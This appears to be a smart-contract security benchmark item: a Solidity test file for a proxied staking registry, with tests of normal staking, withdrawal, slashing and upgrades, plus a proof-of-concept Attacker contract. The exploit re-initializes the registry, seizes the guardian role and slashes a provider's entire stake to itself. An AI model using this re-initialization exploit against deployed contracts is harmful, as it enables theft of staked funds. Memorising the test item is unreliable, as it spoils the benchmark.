// SPDX-License-Identifier: MIT
pragma solidity 0.5.17;

import "@openzeppelin/contracts@2.5.1/token/ERC20/ERC20.sol";
import "./StakingRegistry.sol";

// assay-canary-92328a99-6592-469c-aecb-467d96933a6c

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is ERC20 {
    constructor() public {
        _mint(msg.sender, 18000000e18);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ADMIN = address(0x4f1d22B7E06C61c20b0a9ea8e9d5b07E1C3A9B2c);
    address internal constant GUARDIAN = address(0xC0C0);
    address internal constant PROVIDER = address(0x5417);
    uint256 internal constant START = 1658500000;

    Token internal token;
    StakingRegistry internal registry;
    Attacker internal thief;

    function setUp() public {
        vm.warp(START);
        token = new Token();
        StakingRegistry code = new StakingRegistry();
        bytes memory data = abi.encodeWithSelector(code.initialize.selector, address(token), GUARDIAN, 7 days);
        registry = StakingRegistry(address(new StakingProxy(ADMIN, address(code), data)));
        token.transfer(PROVIDER, 18000000e18);
        vm.prank(PROVIDER);
        token.approve(address(registry), uint256(-1));
        vm.prank(PROVIDER);
        registry.stake(18000000e18);
        thief = new Attacker(registry, token);
    }

    function test_Regular() public {
        require(registry.guardian() == GUARDIAN && registry.withdrawDelay() == 7 days, "initialized");
        vm.prank(PROVIDER);
        registry.requestWithdraw(1000e18);
        vm.prank(PROVIDER);
        (bool ok,) = address(registry).call(abi.encodeWithSelector(registry.withdraw.selector));
        require(!ok, "at once");
        vm.prank(GUARDIAN);
        registry.slash(PROVIDER, 50e18, "late");
        require(token.balanceOf(GUARDIAN) == 50e18, "slashed");
        (ok,) = address(registry).call(abi.encodeWithSelector(registry.slash.selector, PROVIDER, 1, ""));
        require(!ok, "by anyone");
        vm.warp(START + 8 days);
        vm.prank(PROVIDER);
        registry.withdraw();
        require(token.balanceOf(PROVIDER) == 1000e18, "withdrawn");
        require(registry.totalStaked() == 18000000e18 - 1050e18, "books");

        StakingRegistry next = new StakingRegistry();
        (ok,) = address(registry).call(abi.encodeWithSelector(bytes4(keccak256("upgradeTo(address)")), address(next)));
        require(!ok, "not the admin");
        vm.prank(ADMIN);
        StakingProxy(address(uint160(address(registry)))).upgradeTo(address(next));
        require(registry.guardian() == GUARDIAN, "after an upgrade");
        vm.prank(GUARDIAN);
        registry.setGuardian(PROVIDER);
        require(registry.guardian() == PROVIDER, "changed");
    }

    // What is refused, each from the state after setUp().

    function test_RefusesImplementationsThatAreNone() public {
        bytes memory nothing;
        vm.expectRevert("Proxy: no contract");
        new StakingProxy(ADMIN, PROVIDER, nothing);
        vm.prank(ADMIN);
        vm.expectRevert("Proxy: no contract");
        StakingProxy(address(uint160(address(registry)))).upgradeTo(PROVIDER);
    }

    function test_RefusesLongDelays() public {
        StakingRegistry code = new StakingRegistry();
        vm.expectRevert("Staking: delay too long");
        code.initialize(token, GUARDIAN, 60 days + 1);
        bytes memory data = abi.encodeWithSelector(code.initialize.selector, address(token), GUARDIAN, 60 days + 1);
        vm.expectRevert("Proxy: not initialized");
        new StakingProxy(ADMIN, address(code), data);
    }

    function test_RefusesAGuardianByStrangers() public {
        vm.prank(PROVIDER);
        vm.expectRevert("Staking: not guardian");
        registry.setGuardian(PROVIDER);
    }

    function test_RefusesToHaveNoGuardian() public {
        vm.prank(GUARDIAN);
        vm.expectRevert("Staking: no guardian");
        registry.setGuardian(address(0));
    }

    function test_RefusesMoreThanIsStaked() public {
        vm.prank(PROVIDER);
        vm.expectRevert("Staking: more than staked");
        registry.requestWithdraw(18000000e18 + 1);
        vm.prank(GUARDIAN);
        vm.expectRevert("Staking: more than staked");
        registry.slash(PROVIDER, 18000000e18 + 1, "all and more");
    }

    function test_RefusesToWithdrawWithoutARequest() public {
        vm.prank(PROVIDER);
        vm.expectRevert("Staking: not available");
        registry.withdraw();
    }

    function exploit() public {
        thief.run();
        thief.collect(PROVIDER);
    }

    function test_Exploit() public {
        exploit();
        require(registry.guardian() == address(thief), "guardian");
        require(token.balanceOf(address(thief)) == 18000000e18, "stakes");
    }

    function target() public view returns (address) {
        return address(registry);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Initializes the registry for a second time.
contract Attacker {
    StakingRegistry internal registry;
    Token internal token;

    constructor(StakingRegistry registry_, Token token_) public {
        registry = registry_;
        token = token_;
    }

    function run() external {
        registry.initialize(token, address(this), 0);
    }

    function collect(address from) external {
        (uint256 amount,,) = registry.providers(from);
        registry.slash(from, amount, "");
    }
}
